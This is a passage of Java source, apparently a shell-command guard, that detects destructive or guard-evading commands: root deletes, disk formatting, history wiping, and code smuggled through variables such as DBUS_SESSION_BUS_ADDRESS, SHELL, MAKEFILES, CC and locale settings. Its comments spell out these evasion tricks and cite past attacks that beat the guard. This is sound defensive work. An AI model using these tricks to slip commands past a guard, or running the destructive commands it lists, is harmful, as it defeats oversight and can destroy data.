      "VIMINIT", "EXINIT", "GVIMINIT", "VIMRUNTIME", "VIM", "MAILCAPS", "GROFF_BIN_PATH", "GROFF_FONT_PATH", "MANLESS",
      "PYTHONPYCACHEPREFIX", "PYTHONPLATLIBDIR", "PYTHONUSERBASE", "LESSMETACHARS", "LESSMETAESCAPE", "MERGE_TOOLS_DIR",
      "CLOUDSDK_PYTHON_ARGS", "GROFF_COMMAND_PREFIX",
      // the docker CLI's plugins (DIR/cli-plugins/docker-VERB) and credential helpers come from it (attack 17cv, proven)
      "DOCKER_CONFIG");

  /**
   * Whether a {@code SHELL} value names a shell whose {@code -c CMD} the judge reads as it reads
   * {@code bash -c CMD}: programs run {@code $SHELL -c CMD} for the command they were given
   * (util-linux {@code flock -c} and {@code script -c}, {@code su -m -c}, less's and vim's {@code
   * !CMD}), which the judge reads as shell code, so {@code SHELL=python3 flock f -c 'import m'} runs
   * Python. A shell of {@link Wrappers#BASH_LIKE} by name or in a system bin directory.
   */
  private static boolean bashLikeShell(Word value) {
    String v = value.value();
    return value.literal() && Regexes.matches(v, "((/usr)?(/local)?/s?bin/)?[a-z0-9]+")
        && Wrappers.BASH_LIKE.contains(v.substring(v.lastIndexOf('/') + 1));
  }

  /**
   * The D-Bus bus addresses systemd's sd-bus (systemctl, busctl, networkctl, systemd-run,
   * systemd-analyze, loginctl …) and libdbus read: an address {@code unixexec:path=PROG,argv1=…}
   * starts PROG with those arguments to talk to it ({@code autolaunch:} starts dbus-launch), so
   * {@code DBUS_SESSION_BUS_ADDRESS=unixexec:path=sh,argv1=-c,argv2=CMD systemctl --user status}
   * runs CMD unjudged.
   */
  static final Set<String> DBUS_ADDRESS_VARS = Set.of("DBUS_SESSION_BUS_ADDRESS", "DBUS_SYSTEM_BUS_ADDRESS",
      "DBUS_STARTER_ADDRESS");

  /**
   * A bus address that only connects: known when the text is read, each of its {@code ;}-separated
   * addresses a socket ({@code unix:}, {@code tcp:}, {@code nonce-tcp:}; the transport name is
   * compared as written, as sd-bus and libdbus compare it). Anything else may start a program.
   */
  static boolean plainBusAddress(Word value) {
    if (!value.literal() || value.value().indexOf(Word.UNKNOWN) >= 0) {
      return false;
    }
    for (String address : value.value().split(";", -1)) {
      if (!address.isEmpty() && !address.startsWith("unix:") && !address.startsWith("tcp:") && !address.startsWith("nonce-tcp:")) {
        return false;
      }
    }
    return true;
  }

  /** The programs make's built-in rules run ({@code make -p}): {@code $(CC)} starts the recipe line. */
  static final Set<String> MAKE_PROGRAM_VARS = Set.of("AR", "AS", "CC", "CO", "CPP", "CTANGLE", "CWEAVE", "CXX", "F77",
      "FC", "GET", "LD", "LEX", "LINT", "M2C", "MAKEINFO", "OBJC", "PC", "RM", "TANGLE", "TEX", "TEXI2DVI", "WEAVE", "YACC");
  /** Names of build tools a program variable may hold (with a target prefix or version suffix: arm-none-eabi-gcc, gcc-12). */
  private static final Pattern BUILD_TOOL = Pattern.compile("([A-Za-z0-9_.]+-)*(gcc|g\\+\\+|cc|c\\+\\+|cpp|c89|c99|clang"
      + "|clang\\+\\+|clang-cpp|gfortran|gccgo|tcc|icc|icx|icpx|pcc|f77|f95|fort77|g77|as|gas|ld|ld\\.bfd|ld\\.gold|ld\\.lld"
      + "|lld|gold|ar|gcc-ar|llvm-ar|ranlib|yacc|bison|byacc|lex|flex|m2c|pc|co|get|lint|rm|tex|texi2dvi|weave|cweave"
      + "|tangle|ctangle|makeinfo)(-[0-9.]+)?");
  /** Shell-inert characters: a value of only these is split into words by the recipe's shell and nothing more. */
  private static final Pattern PLAIN_MAKE_VALUE = Pattern.compile("[A-Za-z0-9_./,:=+@%\\- \t]*");

  /**
   * A variable make's built-in rules put in the recipe line it hands to /bin/sh ({@code $(CC)
   * $(CFLAGS) $(CPPFLAGS) …}), taken from the environment ({@code CC=CMD make x}, {@code export
   * CC=CMD}) as from make's command line: code unless the recipe stays a build tool with
   * options. A program variable must name a build tool (optionally behind ccache/distcc), a flag
   * variable hold options; either only shell-inert characters ({@code $(shell …)} is make's own
   * code, {@code ;}, quotes and the rest the shell's), none of the options that make the compiler
   * run other programs ({@code -B}, {@code -wrapper}, {@code -fplugin}: {@link #compilerDriverRuns}).
   * A value only known when it runs counts.
   */
  static boolean makeRuleCode(String name, Word value) {
    if (name.equals(".SHELLFLAGS")) {
      return !plainShellFlags(value);
    }
    // Every NAME.suffix (COMPILE.c, LINK.o, YACC.y, LEX.l, PREPROCESS.S) and CHECKOUT,v is a
    // command line of a built-in rule.
    boolean program = MAKE_PROGRAM_VARS.contains(name) || Regexes.matches(name, "(?s).+[.,].*");
    if (!program && !Regexes.matches(name, "[A-Z0-9_]*FLAGS|LDLIBS|LOADLIBES|TARGET_ARCH|TARGET_MACH|OUTPUT_OPTION")) {
      return false;
    }
    String v = value.value();
    if (!value.literal() || !PLAIN_MAKE_VALUE.matcher(v).matches()) {
      return true;
    }
    List<Word> words = new ArrayList<>();
    for (String part : Regexes.split(v.strip(), "[ \t]+")) {
      if (!part.isEmpty()) {
        words.add(Word.literal(part, part));
      }
    }
    if (program) {
      int i = 0;
      if (!words.isEmpty() && Regexes.matches(Regexes.replaceFirst(words.get(0).value(), ".*/", ""), "ccache|distcc|sccache|icecc")) {
        i++;
      }
      if (i >= words.size() || !BUILD_TOOL.matcher(Regexes.replaceFirst(words.get(i).value(), ".*/", "")).matches()) {
        return true;
      }
      words = words.subList(i + 1, words.size());
      if (words.stream().anyMatch(w -> !w.value().startsWith("-"))) {
        return true;
      }
    }
    return compilerDriverRuns(new ShellCommand("cc", "cc", words, "cc " + v, List.of(), ShellCommand.Stdin.TERMINAL, List.of()));
  }

  /** The shells make may run its recipes with ({@code SHELL}, {@code MAKESHELL}): the recipe line stays shell code read as such. */
  private static final Pattern PLAIN_MAKE_SHELL = Pattern.compile("(/usr)?(/bin/)?(sh|bash|dash)");

  /**
   * make runs every recipe line as {@code $(SHELL) $(.SHELLFLAGS) LINE}: a {@code SHELL} (or
   * MS-DOS's {@code MAKESHELL}) on make's command line that is no plain shell runs its own program
   * with the line as an argument ({@code SHELL=/usr/bin/env .SHELLFLAGS='touch W'}). make never
   * takes {@code SHELL} from the environment, also not with {@code -e} (POSIX; GNU make 4.3 checked);
   * {@code .SHELLFLAGS} it takes from the environment ({@code env .SHELLFLAGS=… make}) as from
   * its command line.
   */
  static boolean makeShellCode(String name, Word value) {
    return (name.equals("SHELL") || name.equals("MAKESHELL"))
        && !(value.literal() && PLAIN_MAKE_SHELL.matcher(value.value().strip()).matches());
  }

  /**
   * GNU make expands {@code MAKEFILES} (from the environment or its command line) and reads every
   * makefile it names before its own, running the {@code $(shell …)} in it while reading: as
   * {@code make -f}, a name that is no file on disk ({@code /dev/stdin}, {@code /proc/self/fd/0},
   * a name only known when it runs) is code the text feeds it, and a {@code $} is code make
   * expands ({@code MAKEFILES='$(shell CMD)'}). A plain makefile's name is a script on disk.
   */
  static boolean makefilesCode(Word value) {
    String v = value.value();
    if (!value.literal() || v.indexOf('$') >= 0) {
      return true;
    }
    for (String part : Regexes.split(v.strip(), "[ \t\n]+")) {
      if (!part.isEmpty() && !Interpreters.regularPath(new Word(part, part, true))) {
        return true;
      }
    }
    return false;
  }

  /**
   * Flags a plain shell takes before {@code -c}: set options ({@code -e}, {@code -x}, {@code -o
   * pipefail}, {@code -O extglob}) ending with a {@code c}; not {@code -s} or {@code -i} (they read
   * the session's input), nor a word the shell would take for a script or its argument.
   */
  private static boolean plainShellFlags(Word value) {
    if (!value.literal()) {
      return false;
    }
    String[] words = Regexes.split(value.value().strip(), "[ \t]+");
    boolean c = false;
    for (int i = 0; i < words.length; i++) {
      String w = words[i];
      if (Regexes.matches(w, "[-+][oO]") && i + 1 < words.length && Regexes.matches(words[i + 1], "[a-z_]+")) {
        i++;
      } else if (Regexes.matches(w, "[-+][aefhuvxBCEHPTnbmckt]+")) {
        c |= w.indexOf('c') > 0;
      } else {
        return false;
      }
    }
    return c;
  }

  /**
   * Where programs find their users' configuration files ({@code ~/.gitconfig}, {@code
   * $XDG_CONFIG_HOME/git/config}, man's {@code ~/.manpath}, {@code ~/.mailcap}): set, a program
   * reads configuration a file written on the line (or before) may hold, whose commands ({@code
   * alias.x=!CMD}, {@code DEFINE nroff CMD}) the guard does not read. {@code GIT_ALLOW_PROTOCOL}
   * naming {@code ext} allows the {@code ext::} transport, which runs its command.
   */
  static final Set<String> CONFIG_HOME_VARS = Set.of("HOME", "XDG_CONFIG_HOME", "XDG_CONFIG_DIRS");

  /**
   * The variables that choose the character set bash reads its input in. The guard reads a line as
   * UTF-8; under a character set whose multibyte characters may end in an ASCII byte (GBK, BIG5,
   * SJIS) bash reads {@code "中\"} with the backslash inside a character, so the line it runs is
   * not the line judged. {@code LOCPATH} chooses where a locale's name is looked up (a locale named
   * {@code x.UTF-8} may then be anything).
   */
  static final Set<String> LOCALE_VARS = Set.of("LC_ALL", "LC_CTYPE", "LANG", "LOCPATH");
  /** A locale whose character set reads as the guard reads: C/POSIX (bytes) or UTF-8. */
  private static final Pattern SAME_READING_LOCALE = Pattern.compile(
      "|C|POSIX|[A-Za-z0-9_+-]*\\.(?i:utf-?8)(@[A-Za-z0-9_+-]+)?");

  /**
   * Setting a locale variable in the shell itself (or for a command whose code the reading read)
   * to anything but a literal C/POSIX or UTF-8 locale; any {@code LOCPATH}. A prefix for one
   * command that runs no such code ({@code LC_ALL=C sort}) changes nothing bash reads; unsetting
   * returns to the session's own locale.
   */
  static boolean changesCharacterSet(ShellReading.Assignment a) {
    if (!LOCALE_VARS.contains(a.variable()) || a.value() == null || a.commandOnly()) {
      return false;
    }
    if (a.variable().equals("LOCPATH")) {
      return true;
    }
    return !a.value().literal() || !a.name().equals(a.variable()) && !Regexes.matches(a.name(), "[A-Za-z_]+\\[0*\\]")
        || !SAME_READING_LOCALE.matcher(a.value().value()).matches() || Regexes.matches(a.text(), "(?s)[^=]*\\+=.*");
  }

  /** What defining a function puts in this class, or empty. */
  Optional<String> function(ShellReading.FunctionDefinition f, Set<String> knownNames) {
    boolean hit = switch (this) {
      case FORK_BOMB -> f.selfCalling();
      case GUARD_TAMPER -> knownNames.contains(f.name()) || f.name().equals("command_not_found_handle")
          || f.name().contains("/");
      default -> false;
    };
    return hit ? Optional.of(f.text()) : Optional.empty();
  }

  /**
   * Whether {@code c} is a recursive delete whose target is only known when it runs and could be
   * the root ({@code rm -rf "$DIR"/}): the judge treats that as unclassified, not as allowed.
   */
  static Optional<String> uncertainDelete(ShellCommand c) {
    if (!c.name().equals("rm") || !recursive(c)) {
      return Optional.empty();
    }
    for (Word w : operands(c)) {
      if (!w.literal()) {
        String known = w.value().replace(String.valueOf(Word.UNKNOWN), "");
        if (known.isEmpty() || rootish(known) || known.equals("/*")) {
          return Optional.of(c.text());
        }
      }
    }
    return Optional.empty();
  }

  /**
   * Whether {@code c} is an {@code rm} xargs completes from its input where the words it reads may
   * be options ({@code -rf --no-preserve-root /}): no {@code --} before them, and the input is not
   * the names one {@code find} prints ({@code find . -name '*.log' | xargs rm -f}: each starts with
   * a starting point). The session's data, {@code echo}'s or {@code ls}'s output ({@code -rf}) may.
   */
  static Optional<String> xargsDeleteOptions(ShellCommand c, List<ShellCommand> all) {
    if (!c.name().equals("rm") || c.via().isEmpty() || !c.via().get(c.via().size() - 1).equals("xargs")
        || c.args().isEmpty() || c.args().get(c.args().size() - 1).literal()) {
      return Optional.empty();
    }
    for (Word w : c.args().subList(0, c.args().size() - 1)) {
      if (w.value().equals("--")) {
        return Optional.empty();
      }
    }
    // Only NUL-separated names are names: without -0 xargs splits find's output at blanks (and
    // reads quotes), so a directory named 'a -rf --no-preserve-root ' with a subdirectory ' b'
    // hands rm the words -rf --no-preserve-root / b.
    boolean findNames = c.stdin() == ShellCommand.Stdin.PIPE && c.upstream().equals(List.of("find"))
        && all.stream().filter(f -> f.name().equals("find")).allMatch(f -> printsNamesOnly(f)
            && f.argValues().contains("-print0"))
        && all.stream().filter(x -> x.name().equals("xargs")).allMatch(ShellClass::splitsAtNulOnly);
    return findNames ? Optional.empty() : Optional.of(c.text());
  }

  /** xargs {@code -0}/{@code --null} (also in a bundle such as {@code -r0}) before the command it runs. */
  private static boolean splitsAtNulOnly(ShellCommand xargs) {
    for (Word w : xargs.args()) {
      String v = w.value();
      if (!w.literal() || !v.startsWith("-") || v.equals("--")) {
        return false; // the command starts: no -0 before it
      }
      if (v.equals("--null") || Regexes.matches(v, "-[A-Za-z]*0[A-Za-z]*")) {
        return true;
      }
    }
    return false;
  }

  /** A find whose output is the names it finds, each starting with a starting point xargs does not split. */
  private static boolean printsNamesOnly(ShellCommand f) {
    boolean starts = true;
    for (int i = 0; i < f.args().size(); i++) {
      Word w = f.args().get(i);
      String v = w.value();
      if (starts && (Regexes.matches(v, "-[HLP]|-O[0-9]*") || v.equals("-D") && ++i > 0)) {
        continue; // find's own options before the starting points
      }
      if (v.startsWith("-") || v.equals("(") || v.equals("!")) {
        starts = false;
      }
      // A starting point's blanks or quotes would be split by xargs; -printf, -ls and -exec print other text.
      if (!w.literal() || starts && !Regexes.matches(v, "[A-Za-z0-9_./,+@%=:~-]+") || Regexes.matches(v, "-(f?printf|f?ls|exec(dir)?|ok(dir)?)")) {
        return false;
      }
    }
    return true;
  }

  /** {@code cd /}, {@code cd /etc}, {@code cd} (home), {@code cd ~}: the place a relative recursive delete would hit. */
  static boolean changesToRoot(ShellCommand c) {
    if (c.name().equals("env")) {
      // env -C DIR runs its command there (also from env -S's words: env -S '-C / rm -rf etc').
      return Wrappers.envChdirs(c.args()).stream().anyMatch(w -> w != null && (!w.literal() || rootish(w.value())));
    }
    if (!c.name().equals("cd") && !c.name().equals("pushd")) {
      return false;
    }
    List<Word> ops = operands(c);
    return ops.isEmpty() || ops.stream().anyMatch(w -> !w.literal() || rootish(w.value()));
  }

  /** {@code rm -rf *}, {@code rm -rf .}, {@code rm -rf ./*}: a recursive delete of where the shell stands. */
  static boolean relativeRecursiveDelete(ShellCommand c) {
    if (!c.name().equals("rm") || !recursive(c)) {
      return false;
    }
    for (Word w : operands(c)) {
      List<String> words = PathPatterns.braces(w.value());
      if (words == null) {
        return true;
      }
      for (String v : words) {
        if (Regexes.matches(workingDirectory(v), "\\.?/?\\*|\\.|\\./|\\.\\.?/?\\*?|\\.\\*|\\./\\.\\*|\\./\\.")) {
          return true;
        }
      }
    }
    return false;
  }

  /** {@code ~+} is {@code $PWD} and {@code ~-} {@code $OLDPWD} (tilde expansion): read as the relative path {@code .}. */
  static String workingDirectory(String v) {
    if (v.equals("~+") || v.equals("~-")) {
      return ".";
    }
    if (v.startsWith("~+/") || v.startsWith("~-/")) {
      return "." + v.substring(2);
    }
    return v;
  }

  /**
   * A recursive delete or permission change ({@code rm -r}, {@code chmod/chown/chgrp -R}, {@code
   * shred/srm/wipe -r}, {@code find … -delete}) of a relative path that reaches a root-level
   * directory from a working directory the guard does not know: one with a {@code ..} component
   * ({@code ../../etc}), a glob at its top ({@code *}, {@code .*}, {@code ../*}) or a top-level
   * system directory's name ({@code etc}, {@code usr}). Empty when there is none.
   */
  static Optional<String> relativeRootTarget(ShellCommand c) {
    List<Word> targets;
    switch (c.name()) {
      case "rm", "shred", "srm", "wipe" -> targets = recursive(c) ? operands(c) : List.of();
      case "chmod", "chown", "chgrp" -> {
        List<Word> ops = operands(c);
        boolean reference = c.argValues().stream().anyMatch(v -> v.startsWith("--reference"));
        targets = !recursive(c) || ops.isEmpty() ? List.of() : ops.subList(reference ? 0 : 1, ops.size());
      }
      case "setfacl", "chattr" -> targets = recursive(c) ? operands(c) : List.of();
      case "find" -> {
        targets = new ArrayList<>();
        if (c.argValues().contains("-delete")) {
          for (Word w : c.args()) {
            if (w.value().startsWith("-") || w.value().equals("(") || w.value().equals("!")) {
              break;
            }
            targets.add(w);
          }
          if (targets.isEmpty()) {
            targets.add(Word.literal(".", ".")); // find with no starting point searches .
          }
        }
      }
      default -> targets = List.of();
    }
    for (Word w : targets) {
      if (w.value().indexOf(Word.UNKNOWN) >= 0) {
        continue;
      }
      List<String> words = PathPatterns.braces(w.value());
      if (words == null) {
        return Optional.of(c.text());
      }
      for (String word : words) {
        String v = workingDirectory(word);
        if (v.isEmpty() || v.startsWith("/") || v.startsWith("~")) {
          continue;
        }
        String[] parts = Regexes.split(v, "/+");
        String top = parts.length == 0 ? "" : parts[0];
        int i = 0;
        while (top.equals(".") && i + 1 < parts.length) {
          top = parts[++i];
        }
        boolean up = java.util.Arrays.asList(parts).contains("..");
        boolean glob = Regexes.matches(top, "[*?.\\[\\]!^]*[*?][*?.\\[\\]!^]*") || top.equals(".");
        if (up || glob || PathPatterns.componentCouldBe(top, SYSTEM_DIRS)) {
          return Optional.of(c.text());
        }
      }
    }
    return Optional.empty();
  }

  /** Every command name some class looks for: a function or alias of one of these names is tampering. */
  static Set<String> knownNames() {
    Set<String> s = new java.util.HashSet<>();
    s.addAll(FORMAT);
    s.addAll(POWER_NAMES);
    s.addAll(KILLERS);
    s.addAll(DOWNLOADERS);
    s.addAll(COPIERS);
    s.addAll(USER_TOOLS);
    s.addAll(SUDO_NAMES);
    s.addAll(WRITERS);
    s.addAll(Wrappers.BASH_LIKE);
    s.addAll(Wrappers.OTHER_SHELLS);
    s.addAll(Interpreters.LANGUAGES);
    s.addAll(List.of("ls", "cat", "cd", "echo", "printf", "grep", "less", "more", "tail", "head", "ps", "systemctl",
        "service", "journalctl", "crontab", "at", "iptables", "nft", "ufw", "apt", "apt-get", "yum", "dnf", "rpm", "dpkg",
        "history", "env", "command", "builtin", "exec", "eval", "source", ".", "alias", "unalias", "trap", "type", "which",
        "find", "xargs", "ssh", "kubectl", "docker", "git", "mount", "umount", "id", "whoami", "pwd", "test", "[",
        "true", "false", "exit", "set", "unset", "export", "declare", "hash", "enable", "shopt", "read", "mapfile",
        "time", "timeout", "nice", "nohup", "stdbuf", "watch", "script", "chroot", "awk", "sed", "python3", "python"));
    return Set.copyOf(s);
  }

  // ---- the classes -------------------------------------------------------------------------------

  private static boolean recursiveDeleteRoot(ShellCommand c) {
    switch (c.name()) {
      case "rm" -> {
        if (c.argValues().contains("--no-preserve-root")) {
          return true;
        }
        return recursive(c) && operands(c).stream().anyMatch(w -> rootish(w.value()));
      }
      case "chmod", "chown", "chgrp", "setfacl", "chattr" -> {
        return recursive(c) && operands(c).stream().skip(c.name().equals("chattr") || c.name().equals("setfacl") ? 0 : 1)
            .anyMatch(w -> rootish(w.value()));
      }
      case "find" -> {
        if (!c.argValues().contains("-delete")) {
          return false;
        }
        for (Word w : c.args()) {
          String v = w.value();
          if (v.startsWith("-") || v.equals("(") || v.equals("!")) {
            break;
          }
          if (rootish(v)) {
            return true;
          }
        }
        return false;
      }
      case "shred", "srm", "wipe" -> {
        return recursive(c) && operands(c).stream().anyMatch(w -> rootish(w.value()));
      }
      default -> {
        return false;
      }
    }
  }

  /**
   * {@code find} with a starting point at or above {@code /var/log} (or another log directory) that
   * deletes ({@code -delete}) or runs a remover or writer on what it finds ({@code -exec truncate
   * -s0 {} +}, {@code -execdir rm}, {@code -ok}, {@code -okdir}).
   */
  private static boolean findWritesLogs(ShellCommand c) {
    List<Word> a = c.args();
    boolean writes = c.argValues().contains("-delete");
    for (int i = 0; i + 1 < a.size() && !writes; i++) {
      if (Set.of("-exec", "-execdir", "-ok", "-okdir").contains(a.get(i).value())) {
        String prog = a.get(i + 1).value();
        prog = prog.substring(prog.lastIndexOf('/') + 1);
        writes = REMOVERS.contains(prog) || Set.of("chattr", "sed", "perl", "truncate", "tee", "cp", "mv").contains(prog);
      }
    }
    if (!writes) {
      return false;
    }
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i).value();
      if (Regexes.matches(v, "-[HLP]+|-O[0-9]*|-D.+")) {
        continue;
      }
      if (v.equals("-D")) {
        i++;
        continue;
      }
      if (v.startsWith("-") || v.equals("(") || v.equals("!")) {
        break;
      }
      if (v.indexOf(Word.UNKNOWN) >= 0 || !v.startsWith("/")) {
        continue;
      }
      String p = normalize(v);
      if (p.equals("/") || p.equals("/var") || p.equals("/run") || p.equals("/etc") || PathPatterns.couldMatch(LOG_FILE, p)) {
        return true;
      }
    }
    return false;
  }

  private static boolean recursive(ShellCommand c) {
    return flag(c, 'r') || flag(c, 'R') || c.argValues().contains("--recursive");
  }

  /** {@code /}, a top-level system directory, {@code /*}, {@code ~} (however written: {@code //}, {@code /./}, {@code /usr/..}). */
  static boolean rootish(String raw) {
    if (raw.contains(String.valueOf(Word.UNKNOWN))) {
      return false;
    }
    List<String> words = PathPatterns.braces(raw);
    if (words == null) {
      return raw.startsWith("/") || raw.startsWith("~") || raw.startsWith("{"); // too many words to judge one by one
    }
    for (String w : words) {
      if (rootishWord(w)) {
        return true;
      }
    }
    return false;
  }

  /**
   * One word after brace expansion: {@code /}, {@code /*}, a top-level system directory or all
   * under it, also as a pattern that could match one ({@code /e*}, {@code /[e]tc}, {@code /u?r/*}).
   */
  private static boolean rootishWord(String raw) {
    if (raw.equals("~") || raw.equals("~/") || raw.equals("~/*") || raw.equals("~/.*") || Regexes.matches(raw, "~[a-z_][a-z0-9_-]*/?")) {
      return true;
    }
    if (!raw.startsWith("/")) {
      return false;
    }
    String p = normalize(raw);
    if (p.equals("/") || p.equals("/*") || p.equals("/.*") || p.equals("/**") || Regexes.matches(p, "/[*?\\[].*")) {
      return true;
    }
    String[] parts = p.substring(1).split("/");
    if (parts.length == 1 && PathPatterns.componentCouldBe(parts[0], SYSTEM_DIRS)) {
      return true;
    }
    return parts.length == 2 && PathPatterns.componentCouldBe(parts[0], SYSTEM_DIRS)
        && (parts[1].equals(".*") || Regexes.matches(parts[1], "[*?]*\\*[*?]*"));
  }

  /**
   * A path with {@code //}, {@code /./} and {@code dir/..} resolved as the kernel would (symlinks
   * aside, but for the links whose target is known by its letters, which the kernel follows before
   * {@code ..}: {@code /dev/fd/..} is {@code /proc/self}, {@link KernelPaths#linkTarget}).
   */
  static String normalize(String path) {
    if (!path.startsWith("/")) {
      return path;
    }
    List<String> out = new ArrayList<>();
    for (String part : Regexes.split(path, "/+")) {
      if (part.isEmpty() || part.equals(".")) {
        continue;
      }
      if (part.equals("..")) {
        List<String> target = KernelPaths.linkTarget(out);
        if (target != null) {
          out = new ArrayList<>(target);
        }
        if (!out.isEmpty()) {
          out.remove(out.size() - 1);
        }
        continue;
      }
      out.add(part);
    }
    return "/" + String.join("/", out);
  }

  private static boolean format(ShellCommand c) {
    String n = c.name();
    List<String> a = c.argValues();
    if (n.startsWith("mkfs") || n.startsWith("mke2fs") || n.equals("mkswap") || n.equals("wipefs") || n.equals("blkdiscard")
        || n.equals("mkdosfs") || n.equals("mkntfs") || n.equals("mkexfatfs")) {
      return !a.contains("--help") && !a.contains("-V") && !a.contains("--version");
    }
    if (Set.of("fdisk", "sfdisk", "cfdisk", "gdisk", "sgdisk", "cgdisk").contains(n)) {
      return !(flag(c, 'l') || a.contains("--list") || flag(c, 'd') || a.contains("--dump") || a.contains("-V")
          || a.contains("--version") || flag(c, 'p') && n.equals("sgdisk") || a.contains("--print"));
    }
    if (n.equals("parted")) {
      return !(flag(c, 'l') || a.contains("--list") || a.stream().allMatch(v -> v.startsWith("/dev/") || v.equals("print")
          || v.startsWith("-")));
    }
    return switch (n) {
      case "zpool" -> firstOperandIn(c, Set.of("destroy", "create", "labelclear", "replace", "split"));
      case "zfs" -> firstOperandIn(c, Set.of("destroy", "rollback"));
      case "lvremove", "vgremove", "pvremove", "pvcreate", "vgcreate", "lvcreate" -> true;
      case "cryptsetup" -> firstOperandIn(c, Set.of("luksFormat", "erase", "luksErase", "reencrypt"));
      case "mdadm" -> a.contains("--create") || flag(c, 'C') || a.contains("--zero-superblock");
      case "dmsetup" -> firstOperandIn(c, Set.of("remove", "remove_all", "wipe_table"));
      default -> false;
    };
  }

  private static boolean rawDeviceWrite(ShellCommand c) {
    switch (c.name()) {
      case "dd" -> {
        return c.argValues().stream().anyMatch(v -> v.startsWith("of=") && device(v.substring(3)));
      }
      case "tee", "shred", "cp", "cat", "pv", "install", "truncate", "ddrescue", "badblocks", "hdparm", "nvme", "sg_format",
          "flashrom", "scrub", "wipe" -> {
        if (c.name().equals("badblocks") && !(flag(c, 'w') || flag(c, 'n'))) {
          return false;
        }
        if (c.name().equals("hdparm") && c.argValues().stream().noneMatch(v -> v.startsWith("--security-erase")
            || v.startsWith("--trim-sector") || v.equals("--write-sector") || v.equals("--fwdownload"))) {
          return false;
        }
        if (c.name().equals("nvme") && !firstOperandIn(c, Set.of("format", "sanitize", "write", "write-zeroes"))) {
          return false;
        }
        if (c.name().equals("cat") || c.name().equals("pv")) {
          return false; // they write only through a redirection, which is judged as a write
        }
        List<Word> ops = operands(c);
        if (c.name().equals("cp") || c.name().equals("install")) {
          return !ops.isEmpty() && device(ops.get(ops.size() - 1).value());
        }
        return ops.stream().anyMatch(w -> device(w.value()));
      }
      default -> {
        return false;
      }
    }
  }

  private static boolean power(ShellCommand c) {
    String n = c.name();
    if (POWER_NAMES.contains(n)) {
      return !(c.argValues().contains("--help") || n.equals("shutdown") && flag(c, 'c'));
    }
    if (n.equals("systemctl") || n.equals("loginctl")) {
      String verb = systemctlVerb(c);
      if (verb == null) {
        return false;
      }
      if (SYSTEMCTL_POWER.contains(verb) && !verb.equals("default") || verb.equals("default") && n.equals("systemctl")) {
        return true;
      }
      if (verb.equals("isolate") || verb.equals("start")) {
        return operands(c).stream().anyMatch(w -> w.value().matches(
            "(reboot|poweroff|halt|kexec|rescue|emergency|shutdown|suspend|hibernate|runlevel[016])(\\.target)?"));
      }
      return false;
    }
    if (n.equals("init") || n.equals("telinit")) {
      return operands(c).stream().anyMatch(w -> Regexes.matches(w.value(), "[016sS]"));
    }
    return false;
  }

  private static boolean historyTamper(ShellCommand c) {
    String n = c.name();
    if (n.equals("history")) {
      return flag(c, 'c') || flag(c, 'd') || flag(c, 'w') || flag(c, 'r') || flag(c, 'a') || flag(c, 'n') || flag(c, 's');
    }
    if (n.equals("set")) {
      List<String> a = c.argValues();
      for (int i = 0; i + 1 < a.size(); i++) {
        if (a.get(i).equals("+o") && a.get(i + 1).equals("history")) {
          return true;
        }
      }
      return false;
    }
    if (REMOVERS.contains(n) || n.equals("chattr") || n.equals("chmod") || HISTORY_REWRITERS.contains(n) || tarRemoves(c)
        || Set.of("sed", "perl").contains(n) && inPlace(c) || fallocateDestroys(c)) {
      return writtenArgs(c).stream().anyMatch(w -> historyFile(stripOption(w.value())));
    }
    return false;
  }

  /**
   * Programs that replace, rewrite or remove a file they name, beyond {@link #REMOVERS}: {@code
   * install} and {@code rsync} copy over it, {@code sponge} writes it, a compressor replaces it with
   * {@code FILE.gz}/{@code .xz}/…; for history files, which no everyday line compresses.
   */
  private static final Set<String> HISTORY_REWRITERS = Set.of("install", "rsync", "sponge", "gzip", "bzip2", "xz",
      "lzma", "zstd", "lz4", "lzip", "compress", "pigz", "pbzip2", "pixz");

  /**
   * A {@code chmod} that gives no one but the owner a right: every mode word literal and either
   * octal with no bits for group and others and no set-id or sticky bit ({@code 600}, {@code 0700},
   * {@code 400}), or symbolic clauses each of which takes rights away ({@code go-rwx}, {@code -w}),
   * sets group's or others' to nothing ({@code go=}), or changes only the owner's ({@code u+rw}). Not
   * with {@code --reference} (the mode of another file). Options are {@code -R}, {@code -v}, {@code
   * -c}, {@code -f} and their long names; anything else is no restricting chmod.
   */
  static boolean chmodOnlyRestricts(ShellCommand c) {
    List<Word> a = c.args();
    boolean mode = false;
    boolean ended = false;
    for (Word w : a) {
      String v = w.value();
      if (!w.literal()) {
        if (!mode || !ended && (v.startsWith("-") || v.indexOf(Word.UNKNOWN) == 0)) {
          return false; // the mode, or an option (--reference=F), only known when it runs
        }
        continue;
      }
      if (!ended && Regexes.matches(v, "-[Rvcf]+|--(recursive|verbose|changes|silent|quiet|no-preserve-root|preserve-root)")) {
        continue;
      }
      if (mode && !ended && v.equals("--")) {
        ended = true;
        continue;
      }
      if (mode && !ended && v.startsWith("-")) {
        // an option after the mode is still an option: chmod 600 --reference=F FILE gives FILE F's
        // mode (and 600 is a file name), chmod 600 -w … (attack 17cl: it opened ~/.ssh/authorized_keys)
        return false;
      }
      if (!mode) {
        if (!(Regexes.matches(v, "0?[0-7]00") || restrictingSymbolicMode(v))) {
          return false;
        }
        mode = true;
      }
    }
    return mode;
  }

  /**
   * Whether a restricting chmod ({@link #chmodOnlyRestricts}) leaves the owner's write: an octal
   * owner digit with the write bit ({@code 600}, {@code 700}, {@code 200}), and no symbolic clause
   * for the owner ({@code u}, {@code a} or no one named) that takes {@code w} away or sets rights
   * without it ({@code u-w}, {@code a-w}, {@code -w}, {@code u=r}).
   */
  static boolean chmodKeepsOwnerWrite(ShellCommand c) {
    for (Word w : c.args()) {
      String v = w.value();
      if (Regexes.matches(v, "-[Rvcf]+|--.*")) {
        continue;
      }
      if (Regexes.matches(v, "0?[0-7]00")) {
        return "2367".indexOf(v.charAt(v.length() - 3)) >= 0;
      }
      for (String clause : v.split(",", -1)) {
        java.util.regex.Matcher m = CHMOD_CLAUSE.matcher(clause);
        if (!m.matches()) {
          return false;
        }
        String who = m.group(1);
        if (!who.isEmpty() && who.indexOf('u') < 0 && who.indexOf('a') < 0) {
          continue;
        }
        java.util.regex.Matcher op = CHMOD_OPERATION.matcher(m.group(2));
        while (op.find()) {
          if (op.group(1).equals("-") && op.group(2).indexOf('w') >= 0
              || op.group(1).equals("=") && op.group(2).indexOf('w') < 0) {
            return false;
          }
        }
      }
      return true;
    }
    return false;
  }

  /**
   * Whether a path names a file under a {@code .ssh} directory: {@code .ssh} is one of its
